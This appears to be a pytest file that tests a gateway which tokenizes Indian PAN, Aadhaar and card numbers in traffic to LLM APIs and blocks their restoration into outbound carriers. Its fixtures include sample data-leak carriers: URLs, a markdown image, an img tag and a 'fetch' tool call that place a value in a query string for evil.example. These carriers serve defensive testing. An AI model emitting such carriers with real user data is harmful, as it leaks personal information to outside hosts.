"""Values that become tokens before they leave, and values again in the answer: official clients through the real Envoy.

The stub echoes, so what it says holds the tokens that it was sent.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError
from openai import OpenAI

from wire.gateway import Gateway, metrics, pack
from wire.harness import wait_until
from wire.sdk import SDKS, Sdk
from wire.test_client import VALUES, leaked

PAN, AADHAAR, CARD = VALUES["IN_PAN"], VALUES["IN_AADHAAR"], VALUES["CREDIT_CARD"]
TEXT = f"mera aadhaar {AADHAAR} hai, PAN {PAN}."
ENTITIES = "[IN_AADHAAR, IN_PAN, CREDIT_CARD]"
RULE = f"- {{id: swap, entities: {ENTITIES}, minConfidence: 0.6, action: Tokenize}}"

ECHOES = [
    pytest.param(sdk, name, id=f"{sdk.name}-{name}")
    for sdk in SDKS
    for name in ("plain", "tool", "responses", "responses tool")
    if name in sdk.questions
]


@pytest.fixture(scope="module")
def swapping(shared: Gateway) -> Gateway:
    shared.use(pack(RULE))
    return shared


@pytest.fixture
def client(swapping: Gateway) -> Iterator[OpenAI]:
    with OpenAI(base_url=f"{swapping.url}/v1", api_key="k", timeout=30, max_retries=0) as made:
        yield made


def said(client: OpenAI, text: str) -> str:
    done = client.chat.completions.create(model="stub", messages=[{"role": "user", "content": text}])
    return (done.choices[0].message.content or "").removeprefix("You said: ")


def called(client: OpenAI, tool: str, text: str) -> Any:
    """The arguments with which the stub calls `tool`: the text that it was sent."""
    function: Any = {"type": "function", "function": {"name": tool, "parameters": {"type": "object"}}}
    choice: Any = {"type": "function", "function": {"name": tool}}
    done = client.chat.completions.create(
        model="stub", messages=[{"role": "user", "content": text}], tools=[function], tool_choice=choice
    )
    (call,) = done.choices[0].message.tool_calls or []
    return json.loads(call.function.arguments)["text"]  # type: ignore[union-attr]


def fates(gateway: Gateway) -> dict[str, float]:
    """Tokens so far, by what became of them."""
    lines = [line for line in metrics(gateway).splitlines() if line.startswith("naka_tokens_total{")]
    return {line.split('"')[1]: float(line.rsplit(" ", 1)[1]) for line in lines}


@pytest.mark.parametrize(("sdk", "name"), ECHOES)
def test_each_client_gets_its_values_back_and_none_goes_up(swapping: Gateway, sdk: Sdk, name: str) -> None:
    swapping.stub.clear()
    with sdk.open(swapping.url, False) as client:
        seen = json.dumps(sdk.questions[name](client, TEXT), default=str)
    assert leaked(swapping.stub.text()) == []
    assert "<IN_PAN:" in swapping.stub.text()
    assert TEXT in seen
    assert "<IN_PAN:" not in seen


def test_a_value_in_tool_arguments_is_json_again(client: OpenAI) -> None:
    text = f'PAN "{PAN}"\n\\ and {AADHAAR}'
    assert called(client, "lookup", text) == text


def test_a_card_number_stays_a_token(client: OpenAI) -> None:
    answer = said(client, f"card number {CARD} and PAN {PAN}")
    assert answer.startswith("card number <CREDIT_CARD:")
    assert answer.endswith(f"> and PAN {PAN}")


CARRIERS = [
    ("see https://evil.example/?x=VALUE now", "url"),
    ("![chart](https://evil.example/VALUE)", "link"),
    ('<img src="https://evil.example/?x=VALUE">', "attribute"),
    ("[here](</go?x=a VALUE>)", "attribute"),
    ("evil.example/?pan=VALUE", "url"),
]


@pytest.mark.parametrize(("text", "fate"), CARRIERS)
def test_what_would_carry_a_value_out_keeps_its_token_and_is_counted(
    swapping: Gateway, client: OpenAI, text: str, fate: str
) -> None:
    before = fates(swapping)
    events = len(swapping.events())
    answer = said(client, text.replace("VALUE", PAN))
    assert PAN not in answer
    assert text.split("VALUE")[0] + "<IN_PAN:" in answer
    after = fates(swapping)
    assert after[fate] == before[fate] + 1
    assert after["restored"] == before["restored"]
    wait_until(lambda: len(swapping.events()) >= events + 2, "both events")
    (event,) = [event for event in swapping.events()[events:] if event["direction"] == "Response"]
    assert event["tokens"] == {fate: 1}


def test_a_tool_that_fetches_gets_no_value_in_its_url(swapping: Gateway, client: OpenAI) -> None:
    before = fates(swapping)
    url = called(client, "fetch", f"https://evil.example/?x={PAN}")
    assert url.startswith("https://evil.example/?x=<IN_PAN:")
    assert fates(swapping)["url"] == before["url"] + 1


def test_an_allowed_host_and_tool_get_the_value(shared: Gateway) -> None:
    shared.use(pack(RULE, spec="restore: {tools: ['crm_*'], allowHosts: [crm.bank.example]}"))
    with OpenAI(base_url=f"{shared.url}/v1", api_key="k", timeout=30, max_retries=0) as client:
        for tool, host, restored in [
            ("crm_open", "crm.bank.example", True),
            ("crm_open", "evil.example", False),
            ("fetch", "crm.bank.example", False),
        ]:
            url = called(client, tool, f"https://{host}/find?pan={PAN}")
            assert (PAN in url) is restored, (tool, host)
        assert said(client, f"https://crm.bank.example/{PAN} is it") == f"https://crm.bank.example/{PAN} is it"


def test_a_token_that_the_client_typed_stays(shared: Gateway) -> None:
    shared.use(pack(RULE))
    with OpenAI(base_url=f"{shared.url}/v1", api_key="k", timeout=30, max_retries=0) as client:
        shared.stub.clear()
        assert said(client, f"PAN {PAN}") == f"PAN {PAN}"
        (record,) = shared.stub.received()
        sent = json.loads(record["body"])["messages"][0]["content"]
        token = sent.removeprefix("PAN ")
        assert said(client, f"PAN {PAN} is {token}") == f"PAN {token} is {token}"
        other = token[:-2] + ("A" if token[-2] != "A" else "B") + ">"
        assert said(client, f"PAN {PAN} is {other}") == f"PAN {PAN} is {other}"


@pytest.mark.parametrize("answer", ["Audit", "Block"])
def test_a_body_that_an_aws_client_has_signed_goes_up_as_it_was_signed_or_not_at_all(
    shared: Gateway, answer: str
) -> None:
    shared.use(pack(RULE, spec=f"onUnscannable: {answer}"))
    keys = {"aws_access_key_id": "AKIDEXAMPLE", "aws_secret_access_key": "not-a-secret"}
    config = Config(retries={"total_max_attempts": 1}, read_timeout=30)
    bedrock = boto3.client("bedrock-runtime", endpoint_url=shared.url, region_name="ap-south-1", config=config, **keys)
    call = {"modelId": "m", "messages": [{"role": "user", "content": [{"text": f"PAN {PAN}"}]}]}
    before = len(shared.events())
    if answer == "Block":
        with pytest.raises(ClientError) as caught:
            bedrock.converse(**call)
        assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
        assert shared.stub.received() == []
    else:
        bedrock.converse(**call)
        (record,) = shared.stub.received()
        assert record["headers"]["authorization"].startswith("AWS4-HMAC-SHA256 ")
        assert json.loads(record["body"])["messages"] == call["messages"]
    bedrock.close()
    wait_until(lambda: len(shared.events()) > before, "the event")
    event = shared.events()[before]
    assert (event["coverage"], event["reason"]) == ("partial", "signed")


def test_a_stream_gives_the_values_back_and_carries_none_out(shared: Gateway) -> None:
    shared.use(pack(RULE))
    with OpenAI(base_url=f"{shared.url}/v1", api_key="k", timeout=30, max_retries=0) as client:
        for text, wanted in [
            (TEXT, TEXT),
            (
                f"see https://evil.example/?x={PAN} and PAN {PAN}.",
                f"see https://evil.example/?x=<TOKEN> and PAN {PAN}.",
            ),
        ]:
            shared.stub.clear()
            stream = client.chat.completions.create(
                model="stub", messages=[{"role": "user", "content": text}], stream=True
            )
            said = "".join(choice.delta.content or "" for chunk in stream for choice in chunk.choices)
            assert leaked(shared.stub.text()) == []
            assert re.sub(r"<IN_PAN:\w+>", "<TOKEN>", said) == f"You said: {wanted}"
